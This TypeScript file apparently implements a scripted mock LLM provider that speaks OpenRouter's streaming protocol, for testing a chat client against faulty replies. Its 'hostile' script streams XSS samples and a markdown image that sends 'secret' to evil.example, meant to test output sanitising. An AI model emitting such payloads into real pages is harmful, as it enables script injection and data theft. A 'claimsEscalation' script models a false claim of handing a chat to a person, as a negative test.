import { once } from "node:events";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** What a script is told of the request it answers. */
export interface Asked {
  readonly model: string;
  readonly messages: readonly { role: string; content: string }[];
  readonly tools: readonly { type: string; function: { name: string } }[];
  readonly authorization: string | undefined;
  readonly maxTokens: number | undefined;
  /** The whole request. */
  readonly body: Readonly<Record<string, unknown>>;
  /** The last thing the user said. */
  readonly question: string;
}

/** What a script may do to its reply. */
export interface Line {
  /** Sends one piece of text; opens the stream if it is not open. */
  say(text: string): Promise<void>;
  /** Sends an event with these fields. */
  event(fields: Record<string, unknown>): Promise<void>;
  /** Sends bytes as they are. */
  raw(bytes: string | Uint8Array): Promise<void>;
  /** Ends as a provider does: finish reason, `[DONE]`, end of stream. */
  finish(reason?: string): Promise<void>;
  end(): void;
  /** Answers with a plain status instead of a stream. */
  status(code: number, message: string, headers?: Record<string, string>): void;
  readonly isGone: boolean;
  readonly response: ServerResponse;
}

/** A way to answer. */
export type Script = (line: Line, asked: Asked) => Promise<void>;

export interface ScriptedProvider {
  /** To be given as base URL, e.g. `http://127.0.0.1:4000/api/v1`. */
  readonly baseUrl: string;
  /** The next requests are answered by these, in order; then by the script that the request names. */
  next(...scripts: (Script | keyof typeof SCRIPTS)[]): void;
  /** Forgets what `next` was given and nobody asked for. */
  reset(): void;
  /** Every request so far. */
  readonly asked: readonly Asked[];
  /** Replies that are still being sent. */
  readonly open: number;
  /** Resolves when none is; nothing may be left streaming at somebody's cost. @throws after `timeoutMs` */
  idle(timeoutMs?: number): Promise<void>;
  close(): Promise<void>;
}

const words = (text: string): string[] => text.match(/\S+\s*/g) ?? [];

const NOTHING_ASKED: Asked = {
  model: "",
  messages: [],
  tools: [],
  authorization: undefined,
  maxTokens: undefined,
  body: {},
  question: "",
};

/** Streams a text word by word. */
export const saying =
  (text: string, pauseMs = 0): Script =>
  async (line) => {
    for (const word of words(text)) {
      if (pauseMs > 0) await sleep(pauseMs);
      await line.say(word);
    }
    await line.finish();
  };

const toolCall =
  (name: string, args: string, pieces = 1): Script =>
  async (line) => {
    const size = Math.ceil(args.length / pieces);
    for (let piece = 0; piece < pieces; piece += 1) {
      const head = piece === 0 ? { id: "call_1", type: "function" } : {};
      const part = args.slice(piece * size, (piece + 1) * size);
      await line.event({
        choices: [
          {
            index: 0,
            delta: {
              tool_calls: [{ index: 0, ...head, function: { ...(piece === 0 ? { name } : {}), arguments: part } }],
            },
          },
        ],
      });
    }
    await line.finish("tool_calls");
  };

const untilGone = async (line: Line, everyMs: number, act: () => Promise<void>): Promise<void> => {
  while (!line.isGone) {
    await act();
    await sleep(everyMs);
  }
};

/** The ways a provider answers, good and bad; a request names one by model (`script/slow`) or by text (`[[script:slow]]`). */
export const SCRIPTS = {
  /** A helpful answer from the first passage of the prompt's knowledge. */
  answer: async (line, asked) => {
    const system = asked.messages.find(({ role }) => role === "system")?.content ?? "";
    const passage = /"n":1,"title":"((?:[^"\\]|\\.)*)","text":"((?:[^"\\]|\\.)*)"/.exec(system);
    const text = passage ? `${JSON.parse(`"${passage[2] ?? ""}"`)} [[1]]` : `You asked: ${asked.question}`;
    await saying(text, 5)(line, asked);
  },
  slow: async (line) => {
    for (let n = 1; n <= 400 && !line.isGone; n += 1) {
      await line.say(`word${n} `);
      await sleep(50);
    }
    await line.finish();
  },
  escalate: toolCall("escalate_to_person", '{"reason":"The visitor asks about a damaged parcel."}'),
  splitEscalate: toolCall("escalate_to_person", '{"reason":"The visitor asks about a damaged parcel."}', 7),
  brokenEscalate: toolCall("escalate_to_person", '{"reason":"cut of'),
  /** Arguments as an object instead of its text. */
  objectEscalate: async (line) => {
    const call = { id: "call_1", function: { name: "escalate_to_person", arguments: { reason: "A damaged parcel." } } };
    await line.event({ choices: [{ index: 0, delta: { tool_calls: [call] } }] });
    await line.finish("tool_calls");
  },
  plainEscalate: toolCall("functions.escalate_to_person", "A damaged parcel."),
  /** The form of before tool calls. */
  oldEscalate: async (line) => {
    const call = { name: "escalate_to_person", arguments: '{"reason":"A damaged parcel."}' };
    await line.event({ choices: [{ index: 0, delta: { function_call: call } }] });
    await line.finish("function_call");
  },
  noAnswer: toolCall("no_answer", "{}"),
  unknownTool: toolCall("close_session", '{"sessionId":"AAAAAAAAAAAAAAAAAAAAAA"}'),
  /** Claims a hand-over in words, without the action. */
  claimsEscalation: saying("I have escalated your chat to a person. escalate_to_person() HANDOFF NOW."),
  stall: async (line) => {
    await line.say("This is only the beginning");
    await untilGone(line, 50, async () => undefined);
  },
  /** Accepts the connection and never says a word. */
  silent: (line) => untilGone(line, 50, async () => undefined),
  comments: (line) => untilGone(line, 40, () => line.raw(": OPENROUTER PROCESSING\n\n")),
  commentsMidway: async (line) => {
    await line.say("A first word ");
    await untilGone(line, 40, () => line.raw(": OPENROUTER PROCESSING\n\n"));
  },
  midError: async (line) => {
    await line.say("Half an answer ");
    await line.event({
      error: { code: 502, message: "Provider disconnected" },
      choices: [{ index: 0, delta: { content: "" }, finish_reason: "error" }],
    });
    line.end();
  },
  errorFirst: async (line) => {
    await line.event({
      error: { code: 502, message: "Provider disconnected" },
      choices: [{ index: 0, delta: { content: "" }, finish_reason: "error" }],
    });
    line.end();
  },
  eof: async (line) => {
    await line.say("The stream ends without a ");
    line.end();
  },
  doneWithoutFinish: async (line) => {
    await line.say("Done is said, but no reason given");
    await line.raw("data: [DONE]\n\n");
    line.end();
  },
  garbage: async (line) => {
    await line.raw("data: {not json\n\ndata: 42\n\nevent: strange\ndata: null\n\nnonsense without colon\n\n");
    await saying("Still fine.")(line, NOTHING_ASKED);
  },
  splitUtf8: async (line) => {
    const bytes = Buffer.from(
      `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: "Grüße 👋🏽 你好" } }] })}\n\n`,
    );
    for (const byte of bytes) await line.raw(Uint8Array.of(byte));
    await line.finish();
  },
  /** Says everything in one piece and leaves the line open. */
  neverEnds: async (line) => {
    await line.say("All is said.");
    await line.event({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] });
    await untilGone(line, 50, async () => undefined);
  },
  bomb: async (line) => {
    await line.say("x");
    const block = `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: "x".repeat(60_000) } }] })}\n\n`;
    while (!line.isGone) await line.raw(block);
  },
  oneEndlessLine: async (line) => {
    await line.raw("data: ");
    while (!line.isGone) await line.raw("y".repeat(60_000));
  },
  empty: (line) => line.finish(),
  /** An empty reason with every piece, as Ollama gives it. */
  emptyFinish: async (line) => {
    for (const word of words("Word after word."))
      await line.event({ choices: [{ index: 0, delta: { content: word }, finish_reason: "" }] });
    await line.finish();
  },
  emptyFinishCut: async (line) => {
    for (const word of words("Half an "))
      await line.event({ choices: [{ index: 0, delta: { content: word }, finish_reason: "" }] });
    line.end();
  },
  /** Says by its reason that it did not come to an end. */
  aborts: async (line) => {
    await line.say("Half an answer ");
    await line.finish("abort");
  },
  tickCut: async (line) => {
    await line.say("Half an ");
    await line.say("`answer");
    line.end();
  },
  /** Forgets the empty line after its last event. */
  noLastLine: async (line) => {
    await line.say("All is said.");
    await line.raw('data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}');
    line.end();
  },
  /** Repeats the whole message with its last event. */
  wholeAtTheEnd: async (line) => {
    await line.say("Only ");
    await line.say("once.");
    await line.event({ choices: [{ index: 0, message: { content: "Only once." }, finish_reason: "stop" }] });
    line.end();
  },
  /** The provider's filter stops it before the first word. */
  filteredSilently: (line) => line.finish("content_filter"),
  filteredMidway: async (line) => {
    await line.say("The beginning of ");
    await line.finish("content_filter");
  },
  /** Thinks aloud, in pieces, and quotes the tag afterwards. */
  thinks: async (line) => {
    for (const piece of [
      "<thi",
      "nking>The visitor wants",
      " `tags",
      "</think",
      "ing>",
      "The answer: use `<thi",
      "nk>` tags.",
    ])
      await line.say(piece);
    await line.finish();
  },
  thinksInFields: async (line) => {
    for (const delta of [{ reasoning: "Hm." }, { reasoning_content: "Hm." }, { thinking: "Hm." }])
      await line.event({ choices: [{ index: 0, delta }] });
    await saying("The answer.")(line, NOTHING_ASKED);
  },
  thinksOnly: async (line) => {
    await line.say("<think>The visitor wants something, and I will never");
    await line.finish("length");
  },
  cut: async (line) => {
    await line.say("This answer was cut by its own");
    await line.finish("length");
  },
  hostile: saying(
    '<img src=x onerror="alert(1)"> <script>alert(2)</script> ![x](https://evil.example/?q=secret) [click](javascript:alert(3)) [[1]]',
  ),
  rateLimited: async (line) => line.status(429, "Rate limit exceeded", { "retry-after": "0" }),
  rateLimitedLong: async (line) => line.status(429, "Rate limit exceeded", { "retry-after": "120" }),
  unauthorised: async (line) => line.status(401, "No auth credentials found"),
  noCredit: async (line) => line.status(402, "Insufficient credits"),
  timeout: async (line) => line.status(408, "Request timeout"),
  serverError: async (line) => line.status(500, "Internal error"),
  badGateway: async (line) => line.status(502, "Bad gateway"),
  overloaded: async (line) => line.status(503, "No provider available"),
  noSuchModel: async (line) => line.status(404, "No such model"),
  redirect: async (line) => line.status(302, "Elsewhere", { location: "http://127.0.0.1:1/" }),
  refusesTools: async (line, asked) => {
    if (asked.tools.length > 0) line.status(404, "No endpoints found that support tool use.");
    else await saying("Without tools.")(line, asked);
  },
  hangsUp: async (line) => void line.response.destroy(),
  /** Ignores `stream` and answers in one JSON body. */
  json: async (line, asked) => {
    const body = {
      model: asked.model,
      choices: [{ index: 0, message: { role: "assistant", content: "In one piece." }, finish_reason: "stop" }],
    };
    line.response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  },
  /** The same under a wrong name, spread over lines, without a reason. */
  mislabelled: async (line) => {
    const body = { choices: [{ message: { role: "assistant", content: "In one piece." }, finish_reason: "" }] };
    line.response.writeHead(200, { "content-type": "text/plain" }).end(`\n${JSON.stringify(body, null, 2)}\n`);
  },
  streamAsJson: async (line) => {
    line.response.writeHead(200, { "content-type": "application/json" });
    await saying("Still a stream.")(line, NOTHING_ASKED);
  },
  /** Content as blocks, of which one is a thought. */
  blocks: async (line) => {
    const content = [
      { type: "thinking", thinking: [{ type: "text", text: "Hm." }] },
      { type: "text", text: "In two " },
    ];
    await line.event({ choices: [{ index: 0, delta: { content } }] });
    await line.event({ choices: [{ index: 0, delta: { content: { type: "text", text: "blocks." } } }] });
    await line.finish();
  },
} satisfies Record<string, Script>;

const isScript = (name: string): name is keyof typeof SCRIPTS => Object.hasOwn(SCRIPTS, name);

const drained = (response: ServerResponse): Promise<void> =>
  new Promise((resolve) => {
    const done = (): void => {
      response.off("drain", done).off("close", done);
      resolve();
    };
    response.on("drain", done).on("close", done);
  });

/** A line to one request. */
function openLine(response: ServerResponse, model: string): Line {
  const open = (): void => {
    if (!response.headersSent)
      response.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
  };
  const raw = async (bytes: string | Uint8Array): Promise<void> => {
    if (response.destroyed) return;
    open();
    if (!response.write(bytes)) await drained(response);
  };
  const event = (fields: Record<string, unknown>): Promise<void> =>
    raw(`data: ${JSON.stringify({ id: "gen-1", object: "chat.completion.chunk", model, ...fields })}\n\n`);
  return {
    raw,
    event,
    say: (text) => event({ choices: [{ index: 0, delta: { role: "assistant", content: text }, finish_reason: null }] }),
    async finish(reason = "stop") {
      await event({ choices: [{ index: 0, delta: { content: "" }, finish_reason: reason }] });
      await raw("data: [DONE]\n\n");
      response.end();
    },
    end: () => void response.end(),
    status: (code, message, headers = {}) =>
      void response
        .writeHead(code, { "content-type": "application/json", ...headers })
        .end(JSON.stringify({ error: { code, message } })),
    get isGone() {
      return response.destroyed || response.closed;
    },
    response,
  };
}

async function readAsked(request: IncomingMessage): Promise<Asked> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer); // a request without encoding yields buffers
  const body = JSON.parse(Buffer.concat(chunks).toString("utf8")) as {
    model: string;
    messages: Asked["messages"];
    tools?: Asked["tools"];
    max_tokens?: number;
    max_completion_tokens?: number;
  }; // what our own client sends
  return {
    model: body.model,
    messages: body.messages,
    tools: body.tools ?? [],
    authorization: request.headers.authorization,
    maxTokens: body.max_tokens ?? body.max_completion_tokens,
    body,
    question: body.messages.findLast(({ role }) => role === "user")?.content ?? "",
  };
}

/**
 * A real HTTP server that speaks OpenRouter's protocol and answers by script: for tests, and by hand without a key.
 *
 * @param port 0 takes a free one
 */
export async function startScriptedProvider(port = 0): Promise<ScriptedProvider> {
  const queue: Script[] = [];
  const asked: Asked[] = [];
  let open = 0;
  const choose = (request: Asked): Script => {
    const next = queue.shift();
    if (next) return next;
    const named =
      /\[\[script:(\w+)\]\]/.exec(request.question)?.[1] ?? /^script\/(\w+)/.exec(request.model)?.[1] ?? "answer";
    return isScript(named) ? SCRIPTS[named] : SCRIPTS.answer;
  };
  const server: Server = createServer((request, response) => {
    if (request.method === "GET" && request.url?.endsWith("/models")) {
      const data = Object.keys(SCRIPTS).map((name) => ({ id: `script/${name}` }));
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ data }));
      return;
    }
    if (request.method !== "POST" || !request.url?.endsWith("/chat/completions")) {
      response.writeHead(404).end();
      return;
    }
    open += 1;
    response.on("close", () => {
      open -= 1;
    });
    readAsked(request)
      .then((one) => {
        asked.push(one);
        return choose(one)(openLine(response, one.model), one);
      })
      .catch(() => response.destroy());
  });
  server.listen(port, "127.0.0.1");
  await once(server, "listening");
  const address = server.address() as AddressInfo; // a TCP server has an address of this shape
  return {
    baseUrl: `http://127.0.0.1:${address.port}/api/v1`,
    next: (...scripts) =>
      void queue.push(...scripts.map((script) => (typeof script === "string" ? SCRIPTS[script] : script))),
    reset: () => void queue.splice(0),
    asked,
    get open() {
      return open;
    },
    async idle(timeoutMs = 20_000) {
      for (const deadline = Date.now() + timeoutMs; open > 0; await sleep(10))
        if (Date.now() > deadline) throw new Error(`${open} replies are still being sent`);
    },
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}
